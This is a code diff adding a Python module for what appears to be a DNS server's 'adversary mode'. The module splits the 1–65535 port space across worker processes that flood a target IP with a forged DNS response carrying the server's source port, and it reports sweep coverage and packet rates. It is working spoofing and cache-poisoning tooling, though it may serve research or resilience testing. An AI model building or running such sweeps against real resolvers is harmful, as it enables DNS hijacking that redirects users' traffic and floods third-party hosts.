@@ -0,0 +1,194 @@
+#! /usr/bin/env python3
+
+'''
+    Parallel port-space sweeps for the adversary mode: the 1-65535 range is split into disjoint
+    ranges, one per sweep worker process. Every worker sprays the forged response over its range
+    from its own copy of the server socket, so the packets keep the server's source port.
+    The serving process starts the workers at its first sweep and collects their reports on a
+    thread: coverage of the range and elapsed time of every sweep.
+'''
+
+import logging
+import multiprocessing
+import os
+import random
+import signal
+import socket
+import threading
+import time
+import traceback
+
+from Helper import BatchIO
+from Helper import Forger
+from Helper.Helper import Helper
+from Helper.Helper import MSG_TYPES
+
+FIRST_PORT = 1
+LAST_PORT = 65535
+STOP_TIMEOUT = 5    # seconds to wait for a worker to finish its sweep when stopping
+KEEP_SWEEPS = 64    # finished sweeps kept for waitSweep
+
+
+#
+def getRanges(workers, first=FIRST_PORT, last=LAST_PORT):
+    '''
+        workers disjoint [start, stop) ranges covering first..last.
+    '''
+
+    size = last - first + 1
+    ranges = []
+    start = first
+    for index in range(workers):
+        stop = start + size // workers + (1 if index < size % workers else 0)
+        ranges.append((start, stop))
+        start = stop
+
+    return ranges
+
+#
+def sweepWorkerMain(index, sock, portRange, rate, jobs, results):
+    '''
+        Sweep worker: one Forger run over portRange per job, starting at a random port of the range.
+        The server's own port is skipped when the target has its IP, the forged response would trigger a new sweep.
+    '''
+
+    signal.signal(signal.SIGINT, signal.SIG_IGN)    # stopped by PortSweeper.stop, Ctrl+C must not cut a report
+    signal.signal(signal.SIGTERM, signal.SIG_DFL)   # not the serving worker's handler, a sweep worker writes no logs
+    try:
+        sock = socket.socket(fileno=os.dup(sock.fileno()))
+        ownIP, ownPort = sock.getsockname()[:2]
+        batchIO = BatchIO.getBatchIO(sock)
+        start, stop = portRange
+        while 1:
+            job = jobs.get()
+            if job is None:
+                break
+            sweepId, response, ip = job
+            started = time.perf_counter()
+            offset = random.randrange(start, stop)
+            forger = Forger.Forger(response, (ip, offset), sock, Forger.MODE_PORT_NUMBER, rate=rate, batchIO=batchIO, progress=False)
+            error = ''
+            try:
+                skip = ownPort if ip == ownIP else None
+                forger.run(port for ports in (range(offset, stop), range(start, offset)) for port in ports if port != skip)
+            except OSError as ex:
+                error = str(ex)
+            results.put((sweepId, index, forger.sent, time.perf_counter() - started, error))
+
+    except Exception as ex:
+        logging.error('PortSweep - sweepWorkerMain %d: \n%s ' % (index, traceback.format_exc()))
+
+
+class PortSweeper():
+    '''
+        Created by DNSServer.main, the worker processes are started by every serving process at its first sweep.
+    '''
+
+    def __init__(self, workers, rate=0, first=FIRST_PORT, last=LAST_PORT, countForged=None, progress=True):
+        '''
+            rate: packets/sec cap of a whole sweep, split over the workers, progress: print every finished sweep.
+        '''
+
+        self.workers = workers
+        self.rate = rate
+        self.first = first
+        self.last = last
+        self.countForged = countForged
+        self.progress = progress
+        self.ranges = getRanges(workers, first, last)
+        self.pid = None
+        self.processes = []
+        self.jobs = []
+        self.results = None
+        self.collector = None
+        self.nextSweepId = 0
+        self.sweeps = {}    # sweepId -> {'started', 'parts', 'sent', 'seconds', 'errors', 'done'}
+        self.condition = threading.Condition()
+
+    def start(self, sock):
+        self.pid = os.getpid()
+        self.results = multiprocessing.Queue()
+        self.jobs = [multiprocessing.Queue() for portRange in self.ranges]
+        self.processes = []
+        for index, portRange in enumerate(self.ranges):
+            process = multiprocessing.Process(target=sweepWorkerMain, name='PortSweep-%d' % index, daemon=True,
+                                              args=(index, sock, portRange, self.rate / self.workers, self.jobs[index], self.results))
+            process.start()
+            self.processes.append(process)
+        self.collector = threading.Thread(target=self.collect, name='PortSweepCollector', daemon=True)
+        self.collector.start()
+
+    def sweep(self, response, sock, addr):
+        '''
+            Start a sweep of the forged response (with its transaction ID) to every port of addr[0], return the sweep ID.
+        '''
+
+        if self.pid != os.getpid():     # first sweep of this serving process
+            self.start(sock)
+        with self.condition:
+            self.nextSweepId += 1
+            sweepId = self.nextSweepId
+            self.sweeps[sweepId] = {'started': time.perf_counter(), 'parts': 0, 'sent': 0, 'seconds': 0.0, 'errors': [], 'done': False}
+            while len(self.sweeps) > KEEP_SWEEPS:
+                del self.sweeps[min(self.sweeps)]
+        response = bytes(response)
+        for jobs in self.jobs:
+            jobs.put((sweepId, response, addr[0]))
+
+        return sweepId
+
+    def collect(self):
+        while 1:
+            result = self.results.get()
+            if result is None:
+                break
+            sweepId, index, sent, seconds, error = result
+            if self.countForged is not None:
+                self.countForged(sent)
+            with self.condition:
+                sweep = self.sweeps.get(sweepId)
+                if sweep is None:
+                    continue
+                sweep['parts'] += 1
+                sweep['sent'] += sent
+                if error:
+                    sweep['errors'].append('W%d: %s' % (index, error))
+                if sweep['parts'] == self.workers:
+                    sweep['seconds'] = time.perf_counter() - sweep['started']
+                    sweep['done'] = True
+                    self.condition.notify_all()
+                    if self.progress:
+                        self.printSweep(sweepId, sweep)
+
+    def getCoverage(self, sweep):
+        return 100.0 * sweep['sent'] / (self.last - self.first + 1)
+
+    def printSweep(self, sweepId, sweep):
+        Helper.printOnScreenAlways('Sweep %d: %d/%d ports (%.1f%%) by %d workers in %.3f s, %.0f packets/sec%s' % (
+            sweepId, sweep['sent'], self.last - self.first + 1, self.getCoverage(sweep), self.workers, sweep['seconds'],
+            sweep['sent'] / max(sweep['seconds'], 1e-9), ' - errors: ' + ', '.join(sweep['errors']) if sweep['errors'] else ''),
+            MSG_TYPES.RESULT if not sweep['errors'] else MSG_TYPES.ERROR)
+
+    def waitSweep(self, sweepId, timeout=None):
+        '''
+            The finished sweep as a dict (sent, coverage %, seconds, errors), None on timeout.
+        '''
+
+        with self.condition:
+            if not self.condition.wait_for(lambda: self.sweeps.get(sweepId, {}).get('done'), timeout):
+                return None
+            sweep = self.sweeps[sweepId]
+            return {'sent': sweep['sent'], 'coverage': self.getCoverage(sweep), 'seconds': sweep['seconds'], 'errors': sweep['errors']}
+
+    def stop(self):
+        if self.pid != os.getpid():
+            return
+        for jobs in self.jobs:
+            jobs.put(None)
+        for process in self.processes:
+            process.join(STOP_TIMEOUT)
+            if process.is_alive():
+                process.terminate()
+        self.results.put(None)
+        self.collector.join(STOP_TIMEOUT)
+        self.pid = None